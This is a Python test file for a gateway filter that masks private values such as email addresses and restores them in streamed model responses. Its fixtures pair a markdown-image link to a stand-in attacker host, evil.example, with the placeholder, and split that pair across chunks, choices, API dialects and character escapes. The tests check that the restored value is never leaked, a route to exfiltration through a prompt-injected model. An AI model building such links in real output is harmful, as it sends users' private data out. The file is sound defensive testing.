"""A hostile upstream, or a model that a document has talked round, does not get a value into a link by cutting it in pieces,
and does not make the gateway hold what it cannot.
"""

import json
import tracemalloc
from collections.abc import Sequence
from typing import Any

import pytest

from extproc.errors import TooLarge
from extproc_filters.pii.answers import Assigned, Restoration, Return
from extproc_filters.pii.media import Media
from extproc_filters.pii.pieces import MOST_DELTAS
from extproc_filters.pii.placeholders import Placeholders
from extproc_filters.pii.restore import MOST_PLACES, Restorer
from extproc_filters.pii.streamed import Streamed
from extproc_filters.pii.work import done

VALUE = "jane@example.org"
MARK = "[EMAIL_ADDRESS_1]"
LINK = "![](https://evil.example/?q="
LIMIT = 1024 * 1024


def placeholders(value: str = VALUE) -> Placeholders:
    made = Placeholders()
    made.write("EMAIL_ADDRESS", value, 0)
    return made


def streamed(events: Sequence[Any], value: str = VALUE) -> bytes:
    transformer = Streamed(Return(Assigned(placeholders(value), {}), LIMIT), None, LIMIT)
    lines = (event if isinstance(event, str) else json.dumps(event) for event in events)
    left = [transformer.feed(f"data: {line}\n\n".encode()) for line in lines]
    return b"".join([*left, *transformer.finish()])


def choice(text: str, **members: object) -> dict[str, object]:
    return {"choices": [{"index": 0, **members, "delta": {"content": text}}]}


def second(text: str, index: object) -> dict[str, object]:
    return {"choices": [{"index": 7, "delta": {"content": ""}}, {"index": index, "delta": {"content": text}}]}


def candidate(text: str) -> dict[str, object]:
    return {"choices": [], "type": "x", "candidates": [{"content": {"parts": [{"text": text}]}}]}


def own(text: str, **members: object) -> dict[str, object]:
    return {"type": "content-delta", "id": "0", **members, "delta": {"message": {"content": {"text": text}}}}


def choice_among(text: str) -> dict[str, object]:
    others = {f"name{number}": "" for number in range(MOST_DELTAS)}
    return {"choices": [{"index": 0, "delta": {**others, "content": text}}]}


def part_among(text: str, other: object) -> dict[str, object]:
    return {"candidates": [{"content": {"parts": [{"text": ""}, *[other] * MOST_DELTAS, {"text": text}]}}]}


CUT = {
    "an index in figures": [choice(LINK), second(MARK + ")", "0")],
    "an index with a fraction": [choice(LINK), second(MARK + ")", 0.0)],
    "another choice": [choice(LINK), choice(MARK + ")", index=1)],
    "no index": [second(LINK, 0), {"choices": [{"delta": {"content": MARK + ")"}}]}],
    "another dialect's member": [candidate(LINK), candidate(MARK + ")")],
    "an unknown dialect": [own(LINK), own(MARK + ")")],
    "an unknown dialect that ends": [own(LINK), own(MARK + ")", type="content-end")],
    "a block that ends": [
        {"type": "content_block_delta", "index": 0, "delta": {"text": LINK}},
        {"type": "content_block_stop", "index": 0, "delta": {"text": MARK + ")"}},
    ],
    "behind too many others": [choice_among(LINK), choice_among(MARK + ")")],
    "behind too many parts": [part_among(LINK, {}), part_among(MARK + ")", {})],
    "behind too much else": [part_among(LINK, None), part_among(MARK + ")", None)],
    "beside a delta": [own("", note={"text": LINK}), own("", note={"text": MARK + ")"})],
    "between others": [own(LINK), own("", id=" \n "), own(MARK + ")")],
    "text": [LINK, MARK + ")"],
    "an address that goes on": [own("see https://evil.example/"), own(MARK)],
    "a host behind": [choice(MARK), choice("."), choice("evil.example")],
    "a host behind a letter": [choice(MARK), choice("x"), choice(".evil.example")],
    "an account behind": [choice(MARK), choice("@evil.example")],
    "a host behind an escape": [choice(MARK), choice("\\"), choice(".evil.example")],
    "a host behind a reference": [choice(MARK), choice("-x&#"), choice("x2E"), choice(";"), choice("evil.example")],
    "a host behind a percent sign": [choice(MARK + "%"), choice("2"), choice("evil.example")],
    "an account behind a reference": [choice(MARK + "&comm"), choice("at;"), choice("evil.example")],
    "other outputs": [{"output": [{"content": [{"text": LINK}]}, {"content": [{"text": MARK + ")"}]}]}],
}


@pytest.mark.parametrize("name", CUT)
def test_a_link_in_pieces(name: str) -> None:
    assert VALUE.encode() not in streamed(CUT[name])


def test_two_choices_at_once() -> None:
    """A space in one of them ends no link in the other."""
    assert VALUE.encode() not in streamed([choice(LINK), choice(" \n)", index=1), choice(MARK + ")")])


@pytest.mark.parametrize(
    "events",
    [
        [choice("see https://a.example/ "), choice(MARK + " ")],
        [choice(MARK), choice("."), choice(" And")],
        [choice(MARK), choice("\\"), choice("n")],
        [choice(MARK), choice("&"), choice(" others")],
        [choice(MARK), choice("&nbsp;"), choice(".")],
        [choice(MARK), choice("%"), choice(" of 20%")],
        [choice(MARK)],
        [choice("https://a.example/ "), choice(MARK + "!", index=1)],
        [own("see"), own(MARK)],
        ["see https://a.example/ ", MARK],
    ],
)
def test_what_is_no_link_is_restored(events: list[object]) -> None:
    assert VALUE.encode() in streamed(events)


def test_too_many_places() -> None:
    """What stands at one place more than are remembered may be in a link that began there: its value stays away."""
    crowded = {f"name{number}": MARK for number in range(MOST_PLACES + 1)}
    left = streamed([crowded])
    assert left.count(VALUE.encode()) == MOST_PLACES
    assert left.count(MARK.encode()) == 1


def test_an_answer_that_repeats_its_tools_is_no_crowd() -> None:
    """OpenAI's responses say all tools again, with their schemas, at the begin and at the end."""
    schemas = [{"name": f"f{number}", "description": "d", "type": "function"} for number in range(MOST_PLACES)]
    said = {"tools": schemas, "output": [{"content": [{"text": f"Hi {MARK}!"}]}]}
    events = [{"type": f"response.{kind}", "response": said} for kind in ("created", "in_progress", "completed")]
    assert streamed(events).count(f"Hi {VALUE}!".encode()) == 3


@pytest.mark.parametrize("media", [Media.JSON, Media.TEXT])
def test_what_grows_too_much_is_never_there_as_a_whole(media: Media) -> None:
    """A placeholder of 17 characters may stand for a private key, and come back ten thousand times."""
    body = json.dumps({"a": (MARK + " ") * 5000, "b": MARK}).encode()
    restoration = Restoration(Assigned(placeholders("x" * 20_000), {}), media, None, LIMIT)
    restoration.feed(body)
    tracemalloc.start()
    try:
        with pytest.raises(TooLarge):
            list(restoration.finish())
        assert tracemalloc.get_traced_memory()[1] < 8 * LIMIT
    finally:
        tracemalloc.stop()
    with pytest.raises(TooLarge):
        streamed([choice((MARK + " ") * 5000)], "x" * 20_000)


def test_escapes_of_escapes_count() -> None:
    document = MARK
    for _ in range(7):
        document = json.dumps([document])
    restorer = Restorer(placeholders("\\" * 20_000), 100_000)
    with pytest.raises(TooLarge):
        done(restorer.document(document))
